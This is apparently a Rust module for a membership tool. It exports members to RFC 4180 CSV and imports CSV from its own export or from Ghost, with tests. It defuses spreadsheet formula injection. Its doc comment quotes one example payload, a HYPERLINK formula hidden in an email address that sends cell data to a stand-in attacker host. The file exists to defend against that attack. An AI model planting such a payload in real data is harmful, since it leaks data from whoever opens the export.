//! Members as CSV, both ways: the export's columns and how each cell is
//! written ([`ExportRow`], [`write_rows`]), and what an imported file's row
//! says of a member ([`Columns`], [`Incoming`]). Pure: the caller hands in
//! rows and bytes, nothing here touches a file or the database.
//!
//! RFC 4180 itself (a field with a comma, a quote or a line break is
//! quoted, its quotes doubled, records end in CRLF) is the `csv` crate's,
//! both ways: a parser of quoted fields spanning lines is where hand-rolled
//! CSV goes wrong, and the crate reports the line a record began on.
//!
//! Spreadsheets run a cell that begins with `=`, `+`, `-` or `@` as a
//! formula (and some also after a tab or a carriage return): a member who
//! registered with the address `=HYPERLINK("http://evil.example/?"&A2)@x.org`
//! would otherwise run code on the admin's machine that opens the export.
//! Quoting does not prevent it: a quoted cell is still a formula. So such a
//! cell is written with a leading `'` ([`defused`]), which spreadsheets
//! show as text, and which the import takes off again ([`Columns`]), so an
//! export reads back as it was.

use std::borrow::Cow;

use super::{Email, Plan};
use crate::time::{format, from_unix};

/// The export's header, in its order.
pub const HEADER: [&str; 12] = [
    "id",
    "username",
    "email",
    "email_verified",
    "plan",
    "premium_until",
    "role",
    "newsletter",
    "created_at",
    "last_login_at",
    "stripe_customer_id",
    "disabled",
];

/// The first characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `text` as a cell a spreadsheet shows as text: with a leading `'` when
/// it begins like a formula.
pub fn defused(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// A member as the export writes them (the plan is the plan in force, as
/// `AdminUser` shows it; `premium_until` a running grant only).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ExportRow {
    pub id: i64,
    pub username: String,
    pub email: Option<String>,
    pub email_verified: bool,
    pub plan: Plan,
    pub premium_until: Option<i64>,
    pub role: String,
    pub newsletter: bool,
    pub created_at: i64,
    pub last_login_at: Option<i64>,
    pub stripe_customer_id: Option<String>,
    pub disabled: bool,
}

/// The header row (when `header`) and `rows`, as RFC 4180 text.
pub fn write_rows(rows: &[ExportRow], header: bool) -> Vec<u8> {
    let mut out = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::with_capacity(rows.len() * 128 + 160));
    // Writing into a Vec cannot fail: the errors are the writer's I/O.
    if header {
        out.write_record(HEADER).expect("writes into memory");
    }
    let time = |at: Option<i64>| at.map(|at| format(from_unix(at))).unwrap_or_default();
    let flag = |on: bool| if on { "true" } else { "false" };
    for row in rows {
        let id = row.id.to_string();
        let cells: [Cow<'_, str>; 12] = [
            Cow::Borrowed(&id),
            defused(&row.username),
            defused(row.email.as_deref().unwrap_or_default()),
            Cow::Borrowed(flag(row.email_verified)),
            Cow::Borrowed(row.plan.as_str()),
            Cow::Owned(time(row.premium_until)),
            defused(&row.role),
            Cow::Borrowed(flag(row.newsletter)),
            Cow::Owned(time(Some(row.created_at))),
            Cow::Owned(time(row.last_login_at)),
            defused(row.stripe_customer_id.as_deref().unwrap_or_default()),
            Cow::Borrowed(flag(row.disabled)),
        ];
        out.write_record(cells.iter().map(|c| c.as_bytes()))
            .expect("writes into memory");
    }
    out.into_inner().expect("writes into memory")
}

/// Where an imported file keeps what it says of a member: the header's
/// columns by name (tollgate's own export and Ghost's members export both
/// read; other columns are ignored).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Columns {
    email: usize,
    name: Option<usize>,
    newsletter: Option<usize>,
    complimentary: Option<usize>,
    premium_until: Option<usize>,
    plan: Option<usize>,
    email_verified: Option<usize>,
    stripe_customer_id: Option<usize>,
    created_at: Option<usize>,
}

/// What one row says of a member, each field by its rule.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Incoming {
    pub email: Email,
    /// What the username is made from (`username` or `name`), or else the
    /// address's local part; made valid and unique when stored.
    pub wanted_name: String,
    pub newsletter: bool,
    /// Premium for good (`complimentary_plan`), or until a time
    /// (`premium_until`); `None`: no grant.
    pub grant: Option<Grant>,
    /// `plan` is `premium` without a `premium_until`: premium as
    /// `tollgate set-plan … premium` gives it.
    pub stored_premium: bool,
    /// The file says the address was confirmed (honoured with `--verified`).
    pub email_verified: bool,
    pub stripe_customer_id: Option<String>,
    pub created_at: Option<i64>,
}

/// Complimentary premium a row gives.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Grant {
    /// No end (`complimentary_plan`: Ghost's comped members).
    Always,
    /// Until this time (Unix seconds).
    Until(i64),
}

/// A grant with no end, as a time: the year 9999, which RFC 3339 can
/// still write.
pub const NO_END: i64 = 253_402_300_799;

impl Columns {
    /// Finds the columns in `header`; `Err` with a sentence when it has no
    /// address column.
    pub fn find<'a>(header: impl IntoIterator<Item = &'a str>) -> Result<Columns, String> {
        let names: Vec<String> = header
            .into_iter()
            .map(|name| {
                // A file saved by a spreadsheet may begin with a byte order mark.
                name.trim_start_matches('\u{feff}')
                    .trim()
                    .to_ascii_lowercase()
            })
            .collect();
        let find = |aliases: &[&str]| {
            aliases
                .iter()
                .find_map(|alias| names.iter().position(|name| name == alias))
        };
        let email = find(&["email", "email_address"])
            .ok_or("the header names no address column (email or email_address)")?;
        Ok(Columns {
            email,
            name: find(&["username", "name"]),
            newsletter: find(&["newsletter", "subscribed_to_emails", "subscribed"]),
            complimentary: find(&["complimentary_plan"]),
            premium_until: find(&["premium_until"]),
            plan: find(&["plan"]),
            email_verified: find(&["email_verified"]),
            stripe_customer_id: find(&["stripe_customer_id"]),
            created_at: find(&["created_at"]),
        })
    }

    /// What `record` says of a member at `now`, or a sentence naming the
    /// first column that breaks its rule.
    pub fn read(&self, record: &csv::StringRecord, now: i64) -> Result<Incoming, String> {
        let cell = |column: Option<usize>| {
            column
                .and_then(|at| record.get(at))
                .map(cell_text)
                .filter(|text| !text.is_empty())
        };
        let raw_email = cell(Some(self.email)).ok_or("email: missing")?;
        let email = Email::parse(raw_email).map_err(|why| format!("email: {why}"))?;
        let boolean = |column: Option<usize>, name: &str| match cell(column) {
            None => Ok(false),
            Some(text) => flag(text)
                .ok_or_else(|| format!("{name}: {text:?} is not true/false, yes/no or 1/0")),
        };
        let instant = |column: Option<usize>, name: &str| match cell(column) {
            None => Ok(None),
            Some(text) => time(text)
                .map(Some)
                .ok_or_else(|| format!("{name}: {text:?} is not an RFC 3339 time")),
        };
        let newsletter = boolean(self.newsletter, "newsletter")?;
        let complimentary = boolean(self.complimentary, "complimentary_plan")?;
        let email_verified = boolean(self.email_verified, "email_verified")?;
        let premium_until = instant(self.premium_until, "premium_until")?;
        let created_at = instant(self.created_at, "created_at")?;
        if created_at.is_some_and(|at| at > now) {
            return Err("created_at: in the future".to_owned());
        }
        let stored_premium = match cell(self.plan).map(str::to_ascii_lowercase).as_deref() {
            None | Some("free") => false,
            Some("premium") => true,
            Some(other) => return Err(format!("plan: {other:?} is neither free nor premium")),
        };
        let stripe_customer_id = cell(self.stripe_customer_id)
            .map(|id| {
                let fits = id.len() <= 255 && id.chars().all(|c| c.is_ascii_graphic());
                fits.then(|| id.to_owned())
                    .ok_or_else(|| format!("stripe_customer_id: {id:?} is not a customer id"))
            })
            .transpose()?;
        let grant = match (complimentary, premium_until) {
            (true, _) => Some(Grant::Always),
            // A grant that has ended gives nothing.
            (false, Some(until)) if until > now => Some(Grant::Until(until)),
            _ => None,
        };
        let local = email.as_str().split('@').next().unwrap_or_default();
        let wanted_name = cell(self.name).unwrap_or(local).to_owned();
        Ok(Incoming {
            email,
            wanted_name,
            newsletter,
            grant,
            // A premium plan with a grant is the grant (tollgate's export
            // writes the plan in force).
            stored_premium: stored_premium && premium_until.is_none(),
            email_verified,
            stripe_customer_id,
            created_at,
        })
    }
}

/// A cell's text: trimmed, and without the `'` the export puts before a
/// cell that begins like a formula.
fn cell_text(raw: &str) -> &str {
    let text = raw.trim();
    match text.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest,
        _ => text,
    }
}

fn flag(text: &str) -> Option<bool> {
    match text.to_ascii_lowercase().as_str() {
        "true" | "yes" | "1" => Some(true),
        "false" | "no" | "0" => Some(false),
        _ => None,
    }
}

/// An RFC 3339 time, or one with a space for the `T` and no offset (as
/// some exports write UTC), in Unix seconds.
fn time(text: &str) -> Option<i64> {
    crate::time::parse_seconds(text).or_else(|| {
        chrono::NaiveDateTime::parse_from_str(text, "%Y-%m-%d %H:%M:%S%.f")
            .ok()
            .map(|at| at.and_utc().timestamp())
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    const NOW: i64 = 1_800_000_000;

    fn row(header: &str, line: &str) -> Result<Incoming, String> {
        let columns = Columns::find(header.split(',')).unwrap();
        let record = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(line.as_bytes())
            .records()
            .next()
            .unwrap()
            .unwrap();
        columns.read(&record, NOW)
    }

    #[test]
    fn a_cell_that_begins_like_a_formula_gets_a_quote() {
        for text in ["=1+2", "+x", "-2", "@SUM(A1)", "\tx", "\rx"] {
            assert_eq!(defused(text), format!("'{text}"));
        }
        for text in ["a=1", "alice", "", "'quoted"] {
            assert_eq!(defused(text), text);
        }
    }

    #[test]
    fn rows_are_rfc_4180_with_the_header() {
        let rows = [ExportRow {
            id: 7,
            username: "-dash".into(),
            email: Some("=x@example.com".into()),
            email_verified: true,
            plan: Plan::Premium,
            premium_until: Some(NOW),
            role: "reader".into(),
            newsletter: false,
            created_at: 0,
            last_login_at: None,
            stripe_customer_id: Some("cus_a,\"b\"".into()),
            disabled: false,
        }];
        let text = String::from_utf8(write_rows(&rows, true)).unwrap();
        assert_eq!(
            text,
            format!(
                "{}\r\n7,'-dash,'=x@example.com,true,premium,2027-01-15T08:00:00Z,reader,false,\
                 1970-01-01T00:00:00Z,,\"cus_a,\"\"b\"\"\",false\r\n",
                HEADER.join(",")
            )
        );
    }

    #[test]
    fn tollgate_and_ghost_headers_are_both_read() {
        let ours = Columns::find(HEADER).unwrap();
        assert_eq!(ours.email, 2);
        assert_eq!(ours.name, Some(1));
        let ghost = "\u{feff}id,email,name,note,subscribed_to_emails,complimentary_plan,\
                     stripe_customer_id,created_at,deleted_at,labels,tiers";
        let ghost = Columns::find(ghost.split(',')).unwrap();
        assert_eq!(ghost.email, 1);
        assert_eq!(ghost.newsletter, Some(4));
        assert_eq!(ghost.complimentary, Some(5));
        assert!(Columns::find(["name", "note"]).is_err());
        assert_eq!(Columns::find(["Email_Address"]).unwrap().email, 0);
    }

    #[test]
    fn a_row_is_read_by_each_fields_rule() {
        let header = "email,name,subscribed,complimentary_plan,created_at,stripe_customer_id";
        let read = row(
            header,
            "'+A@Example.com,José Núñez,yes,true,2023-01-15 10:20:30,cus_1",
        )
        .unwrap();
        assert_eq!(read.email.as_str(), "+A@Example.com");
        assert_eq!(read.wanted_name, "José Núñez");
        assert!(read.newsletter);
        assert_eq!(read.grant, Some(Grant::Always));
        assert_eq!(read.created_at, Some(1_673_778_030));
        assert_eq!(read.stripe_customer_id.as_deref(), Some("cus_1"));
        let plain = row("email", "bob@example.com").unwrap();
        assert_eq!(plain.wanted_name, "bob");
        assert!(!plain.newsletter && plain.grant.is_none() && !plain.stored_premium);
    }

    #[test]
    fn a_premium_plan_is_the_grant_when_it_has_one() {
        let header = "email,plan,premium_until";
        let granted = row(header, "a@example.com,premium,2030-01-01T00:00:00Z").unwrap();
        assert_eq!(granted.grant, Some(Grant::Until(1_893_456_000)));
        assert!(!granted.stored_premium);
        let stored = row(header, "a@example.com,premium,").unwrap();
        assert!(stored.stored_premium && stored.grant.is_none());
        let lapsed = row(header, "a@example.com,free,2020-01-01T00:00:00Z").unwrap();
        assert_eq!(lapsed.grant, None);
    }

    #[test]
    fn a_row_that_breaks_a_rule_says_which_column() {
        let header = "email,newsletter,created_at,plan";
        for (line, column) in [
            ("not-an-address,,,", "email"),
            (",,,", "email"),
            ("\"Name <a@example.com>\",,,", "email"),
            ("a@example.com,maybe,,", "newsletter"),
            ("a@example.com,,yesterday,", "created_at"),
            ("a@example.com,,2999-01-01T00:00:00Z,", "created_at"),
            ("a@example.com,,,gold", "plan"),
        ] {
            let why = row(header, line).unwrap_err();
            assert!(why.starts_with(column), "{line}: {why}");
        }
    }
}
